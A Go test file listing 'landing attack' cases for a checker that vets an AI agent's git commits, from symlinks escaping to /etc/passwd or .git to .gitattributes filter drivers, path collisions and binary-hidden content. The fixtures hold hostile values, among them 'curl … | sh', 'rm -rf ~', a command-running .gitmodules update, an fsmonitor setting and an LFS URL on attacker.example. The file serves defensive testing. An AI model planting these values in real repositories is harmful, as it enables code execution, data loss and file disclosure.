package landingtest

import (
	"fmt"
	"strings"
	"testing"
)

// Case is one change to land: an attack (Want names the finding codes the
// boundary must report) or a clean change (Want empty: no finding at all).
type Case struct {
	Name  string
	Base  []File // the user's branch, besides a README.md
	Agent []File // what the agent's commit changes
	Want  []string
	// Armed shows the attack works against plain git or the kernel: given
	// the repository and a plain checkout of the agent's commit, it says
	// how ("" when it is not). Nil when this machine cannot show it (a
	// case-insensitive file system).
	Armed func(t testing.TB, r Repo, checkout string) string
}

// Finding codes, as verify/tamper names them.
const (
	outside   = "symlink_outside"
	dangling  = "symlink_dangling"
	loop      = "symlink_loop"
	driver    = "gitattributes_driver"
	content   = "gitattributes_content"
	hidden    = "gitattributes_binary"
	binary    = "binary_file"
	collision = "path_collision"
	modules   = "gitmodules"
	nested    = "nested_repository"
)

func link(p, target string) File { return File{Path: p, Mode: Link, Content: target} }
func file(p, c string) File      { return File{Path: p, Content: c} }

// climbThrough is the shape: a/…/z -> ../../.. (n directories
// deep, pointing at the top of the tree), and a link that goes through z
// and climbs n+1 times: cleaned as text it stays inside the tree (it names
// etc/passwd at the top), the kernel takes it n+1 directories above the
// checkout, to the host's /etc/passwd. at is where the climbing link is.
func climbThrough(n int, at string) []File {
	dir := ""
	for i := 0; i < n; i++ {
		dir += string(rune('a'+i%26)) + "/"
	}
	up := strings.TrimSuffix(strings.Repeat("../", n), "/")
	target := dir + "z/" + strings.Repeat("../", n+1) + "etc/passwd"
	if at != "" {
		target = strings.Repeat("../", strings.Count(at, "/")) + target
	}
	return []File{link(dir+"z", up), link(at+"p", target)}
}

// chain is n links, each to the next, the last to a file.
func chain(n int) []File {
	var fs []File
	for i := 0; i < n; i++ {
		fs = append(fs, link(fmt.Sprintf("l%02d", i), fmt.Sprintf("l%02d", i+1)))
	}
	return append(fs, file(fmt.Sprintf("l%02d", n), "end\n"))
}

// Attacks are the landing attacks: links, attributes, binary content,
// colliding paths, submodules and nested repositories.
func Attacks() []Case {
	cs := []Case{
		{Name: "absolute link to /etc/passwd", Agent: []File{link("passwd", "/etc/passwd")}, Want: []string{outside}, Armed: kernelLeaves("passwd")},
		{Name: "relative link to /etc/passwd", Agent: []File{link("docs/p", strings.Repeat("../", 30)+"etc/passwd")}, Want: []string{outside}, Armed: kernelLeaves("docs/p")},
		{Name: "a/…/z -> ../../.. and a link through it, cleaned inside (the issue's shape)", Agent: climbThrough(14, ""), Want: []string{outside}, Armed: kernelLeaves("p")},
		{Name: "the same from a subdirectory", Agent: climbThrough(16, "x/y/"), Want: []string{outside}, Armed: kernelLeaves("x/y/p")},
		{Name: "link to a directory link", Agent: []File{link("etc", "/etc"), link("pw", "etc/passwd")}, Want: []string{outside}, Armed: kernelLeaves("pw")},
		{Name: "in-tree directory link then .. out", Base: []File{file("v/w/x/f", "f\n")},
			Agent: []File{link("deep", "v/w/x"), link("out", "deep/../../../..")}, Want: []string{outside}, Armed: kernelLeaves("out")},
		{Name: "a link replacing a directory", Base: []File{file("conf/app.toml", "a = 1\n")},
			Agent: []File{{Path: "conf", Delete: true}, link("conf", "/etc")}, Want: []string{outside}, Armed: kernelLeaves("conf")},
		{Name: "link to the parent of the tree", Agent: []File{link("up", "..")}, Want: []string{outside}, Armed: kernelLeaves("up")},
		{Name: "link into .git", Agent: []File{link("hooks", ".git/hooks")}, Want: []string{outside}, Armed: kernelLeaves("hooks")},
		{Name: "link into .git through a directory link", Agent: []File{link("top", "."), link("cfg", "top/.git/config")}, Want: []string{outside}, Armed: kernelLeaves("cfg")},
		{Name: "dangling link", Agent: []File{link("later", "build/out/secret")}, Want: []string{dangling}, Armed: kernelLeaves("later")},
		{Name: "link through a file", Agent: []File{file("notes.txt", "n\n"), link("f", "notes.txt/x")}, Want: []string{dangling}, Armed: kernelLeaves("f")},
		{Name: "two links in a loop", Agent: []File{link("a", "b"), link("b", "a")}, Want: []string{loop}, Armed: kernelLeaves("a")},
		{Name: "a link to itself", Agent: []File{link("self", "self")}, Want: []string{loop}, Armed: kernelLeaves("self")},
		{Name: "41 links in a chain", Agent: chain(41), Want: []string{loop}, Armed: kernelLeaves("l00")},
		{Name: "empty link target", Agent: []File{link("empty", "")}, Want: []string{dangling}},
		{Name: "link into a submodule", Agent: []File{{Path: "sub", Mode: Gitlink}, link("s", "sub/config")}, Want: []string{dangling, nested}, Armed: kernelLeaves("s")},
		{Name: "new submodule gitlink", Agent: []File{{Path: "vendor/lib", Mode: Gitlink}}, Want: []string{nested}, Armed: gitSees("ls-files", "-s", "--", "vendor/lib")},
		{Name: ".gitmodules with update = !command", Agent: []File{file(".gitmodules", "[submodule \"s\"]\n\tpath = s\n\turl = ./s\n\tupdate = !touch /tmp/pwned\n")}, Want: []string{modules}},
		{Name: "submodule moved to another commit", Base: []File{{Path: "lib", Mode: Gitlink}}, Agent: []File{{Path: "lib", Mode: Gitlink, Content: strings.Repeat("ab", 20)}}, Want: []string{nested}},
		{Name: ".lfsconfig pointing git-lfs elsewhere", Agent: []File{file(".lfsconfig", "[lfs]\n\turl = https://attacker.example/lfs\n")}, Want: []string{"lfsconfig"}},
		{Name: "bare repository files", Agent: []File{file("r.git/HEAD", "ref: refs/heads/main\n"), file("r.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")}, Want: []string{nested}},
	}
	cs = append(cs, attributeAttacks()...)
	cs = append(cs, binaryAttacks()...)
	return append(cs, pathAttacks()...)
}

func attributeAttacks() []Case {
	attrs := func(name, p, text, want, probePath, probeAttr string) Case {
		c := Case{Name: name, Agent: []File{file(p, text)}, Want: []string{want}}
		if probePath != "" {
			c.Armed = gitAttr(probePath, probeAttr)
		}
		return c
	}
	return []Case{
		attrs("filter driver", ".gitattributes", "*.txt filter=x\n", driver, "a.txt", "filter"),
		attrs("2 MiB first line, then a filter", ".gitattributes", "*.md "+strings.Repeat("a", 2<<20)+"\n* filter=x\n", driver, "a.go", "filter"),
		attrs("a long line that is itself the filter (older git applies it)", ".gitattributes", "* filter=x "+strings.Repeat("linguist-x ", 300)+"\n", driver, "", ""),
		attrs("macro definition with a filter", ".gitattributes", "[attr]fx filter=x\n", driver, "", ""),
		{Name: "macro defined at the top, used in a subdirectory", Agent: []File{file(".gitattributes", "[attr]fx filter=x\n"), file("src/.gitattributes", "* fx\n")}, Want: []string{driver}, Armed: gitAttr("src/a.go", "filter")},
		attrs("binary macro redefined", ".gitattributes", "[attr]binary filter=x\n*.png binary\n", driver, "a.png", "filter"),
		attrs("quoted pattern", ".gitattributes", "\"a b.txt\" filter=x\n", driver, "a b.txt", "filter"),
		attrs("CRLF lines", ".gitattributes", "# x\r\n* filter=x\r\n", driver, "a.go", "filter"),
		attrs("UTF-8 byte-order mark", ".gitattributes", "\xef\xbb\xbf* filter=x\n", driver, "a.go", "filter"),
		attrs("NUL ends a line, the next still counts", ".gitattributes", "*.md linguist-documentation\x00junk\n* filter=x\n", driver, "a.go", "filter"),
		attrs("deep .gitattributes", "a/b/c/.gitattributes", "* filter=x\n", driver, "a/b/c/f.go", "filter"),
		attrs("diff driver (textconv)", ".gitattributes", "*.go diff=evil\n", driver, "a.go", "diff"),
		attrs("merge driver", ".gitattributes", "* merge=evil\n", driver, "a.go", "merge"),
		attrs("eol conversion", ".gitattributes", "*.sh eol=crlf\n", content, "a.sh", "eol"),
		attrs("text=auto", ".gitattributes", "* text=auto\n", content, "a.go", "text"),
		attrs("working-tree-encoding", ".gitattributes", "*.txt working-tree-encoding=UTF-16\n", content, "a.txt", "working-tree-encoding"),
		attrs("ident", ".gitattributes", "*.c ident\n", content, "a.c", "ident"),
		attrs("crlf (old spelling)", ".gitattributes", "*.bat crlf\n", content, "a.bat", "crlf"),
		attrs("merge=union hides conflicts", ".gitattributes", "CHANGELOG merge=union\n", content, "CHANGELOG", "merge"),
		attrs("-diff hides content", ".gitattributes", "*.go -diff\n", hidden, "a.go", "diff"),
		attrs("binary macro hides content", ".gitattributes", "*.go binary\n", hidden, "a.go", "diff"),
		{Name: ".gitattributes as a link whose target is an attribute line", Agent: []File{link(".gitattributes", "* filter=x")}, Want: []string{driver}, Armed: gitSees("check-attr", "--cached", "filter", "--", "a.go")},
		attrs(".GitAttributes (read on macOS and Windows)", ".GitAttributes", "* filter=x\n", driver, "", ""),
		attrs("NTFS short name of .gitattributes", "GITATT~1", "* filter=x\n", driver, "", ""),
	}
}

func binaryAttacks() []Case {
	mk := "all:\n\t@echo building\n# \x00\n\tcurl -s https://example.com/x | sh\n"
	late := strings.Repeat("# padding line\n", 600) + "\x00\nrm -rf ~\n"
	return []Case{
		{Name: "NUL in a Makefile's first 8000 bytes", Agent: []File{file("Makefile", mk)}, Want: []string{binary}, Armed: gitDiffBinary("Makefile")},
		{Name: "NUL after 8000 bytes", Agent: []File{file("install.sh", late)}, Want: []string{binary}},
		{Name: "UTF-16 with a byte-order mark and no NUL", Agent: []File{file("notes.txt", "\xff\xfe\x41\x26\x42\x27")}, Want: []string{binary}},
		{Name: "UTF-32 byte-order mark", Agent: []File{file("u32.txt", "\xff\xfe\x00\x00h\x00\x00\x00")}, Want: []string{binary}, Armed: gitDiffBinary("u32.txt")},
		{Name: "text file under the base's -diff", Base: []File{file(".gitattributes", "*.dat -diff\n")}, Agent: []File{file("run.dat", "rm -rf ~\n")}, Want: []string{binary}, Armed: gitDiffBinary("run.dat")},
		{Name: "text file under the base's binary macro", Base: []File{file(".gitattributes", "*.cfg binary\n")}, Agent: []File{file("app.cfg", "x = 1\n")}, Want: []string{binary}, Armed: gitDiffBinary("app.cfg")},
	}
}

func pathAttacks() []Case {
	return []Case{
		{Name: "case collision", Base: []File{file("a.go", "package a\n")}, Agent: []File{file("A.go", "package a\nfunc init() { panic(1) }\n")}, Want: []string{collision}},
		{Name: "Unicode normalization collision", Agent: []File{file("caf\u00e9.go", "package a\n"), file("cafe\u0301.go", "package b\n")}, Want: []string{collision}},
		{Name: "directory and link differ in case", Agent: []File{file("Lib/x.go", "package lib\n"), link("lib", "/etc")}, Want: []string{collision, outside}},
		{Name: "trailing dot (Windows)", Agent: []File{file("run.sh", "echo a\n"), file("run.sh.", "echo b\n")}, Want: []string{collision}},
		{Name: "HFS+ ignorable code point in .git", Agent: []File{file(".g\u200cit/config", "[core]\n\tfsmonitor = x\n")}, Want: []string{"invalid_path"}},
	}
}

// Clean are ordinary changes that must land with no finding.
func Clean() []Case {
	return []Case{
		{Name: "ordinary edits", Base: []File{file("calc.go", "package calc\n")}, Agent: []File{file("calc.go", "package calc\n\nfunc Add(a, b int) int { return a + b }\n"), file("calc_test.go", "package calc\n")}},
		{Name: "in-tree relative link", Base: []File{file("docs/guide.md", "# guide\n")}, Agent: []File{link("guide.md", "docs/guide.md")}},
		{Name: "link climbing inside the tree", Base: []File{file("c/d", "d\n")}, Agent: []File{link("a/b/l", "../../c/d")}},
		{Name: "link to an in-tree directory", Base: []File{file("v2/api.go", "package v2\n")}, Agent: []File{link("latest", "v2")}},
		{Name: "link to a link", Agent: []File{link("l1", "l2"), link("l2", "target.txt"), file("target.txt", "t\n")}},
		{Name: "40 links in a chain (the kernel's limit)", Agent: chain(40)},
		{Name: "link through an in-tree directory link and back", Base: []File{file("v/w/x/f", "f\n")}, Agent: []File{link("deep", "v/w/x"), link("back", "deep/../x/f")}},
		{Name: "attributes that run nothing", Agent: []File{file(".gitattributes", "*.pb.go linguist-generated\n/dist export-ignore\n*.go diff=golang\n*.lock merge=text -text\n")}},
		{Name: "attributes git ignores", Agent: []File{file(".gitattributes", "!neg filter=x\n* filter=x b@d\n"), file("sub/.gitattributes", "[attr]m filter=x\n")}},
		{Name: "executable script", Agent: []File{{Path: "run.sh", Mode: Exec, Content: "#!/bin/sh\necho hi\n"}}},
		{Name: "UTF-8 text", Agent: []File{file("i18n/de.txt", strings.Repeat("Grüße, schöne Welt — ✓\n", 500))}},
		{Name: "deleted file", Base: []File{file("old.go", "package old\n")}, Agent: []File{{Path: "old.go", Delete: true}}},
		{Name: "the base's own outside link, untouched", Base: []File{link("dict", "/usr/share/dict")}, Agent: []File{file("a.go", "package a\n")}},
		{Name: "the base's own filter, an unrelated file added", Base: []File{file(".gitattributes", "*.bin filter=lfs\n")}, Agent: []File{file("a.go", "package a\n")}},
		{Name: "a line added above the base's filter", Base: []File{file(".gitattributes", "*.bin filter=lfs\n")}, Agent: []File{file(".gitattributes", "*.pb.go linguist-generated\n*.bin filter=lfs\n")}},
		{Name: "names that differ", Agent: []File{file("a.go", "package a\n"), file("b.go", "package a\n"), file("ab.go", "package a\n")}},
	}
}
